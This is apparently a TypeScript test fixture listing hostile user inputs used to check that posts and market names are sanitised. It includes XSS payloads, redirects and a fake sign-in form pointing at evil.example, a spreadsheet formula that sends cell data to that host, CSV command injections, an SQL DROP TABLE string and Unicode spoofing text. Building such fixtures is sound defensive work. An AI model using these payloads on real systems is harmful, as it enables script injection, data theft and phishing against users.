const PWN = "window.__pwned=1";

/**
 * What somebody who may name a market or write a post could put there. A page that runs one of them sets
 * `window.__pwned`, opens a dialog or asks another origin.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${PWN}</script>`,
  `</script><script>${PWN};alert(1)</script>`,
  `</title></textarea></style><svg/onload=${PWN}>`,
  `<img src=x onerror="${PWN}">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<style>@import url(https://evil.example/a.css);*{display:none}</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus>Sign in again</button></form>`,
  `" autofocus onfocus="${PWN}" x="`,
  `' onmouseover='${PWN}' x='`,
  `javascript:${PWN}`,
  `data:text/html,<script>${PWN}</script>`,
  `[click](javascript:${PWN}) ![x](https://evil.example/x.png)`,
  `{{constructor.constructor('${PWN}')()}}`,
  `\${${PWN}} #{${PWN}} <%= ${PWN} %> {{7*7}}`,
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\tcmd\r\n=1+1`,
  `\u202Egnp.exe \u202Dfdp.\u202C \u2066isolated`,
  `p\u200Bay\u200Cpal\u200D\uFEFF \u00AD\u2060`,
  `Z\u0337\u0322\u031Ba\u0338\u0321l\u0336\u0328g\u0335o`,
  "W".repeat(600),
  `null`,
  `undefined`,
  `NaN`,
  `[object Object]`,
  `__proto__`,
  `constructor`,
  `'; DROP TABLE social_posts; --`,
  `\\' \\" \\u003cscript\\u003e &lt;script&gt; %3Cscript%3E`,
  `👩‍👩‍👧‍👦🏳️‍🌈 🇦🇶 \u{1F9FF} \uFFFD`,
  `مرحبا שלום こんにちは ∑ ﷽`,
];
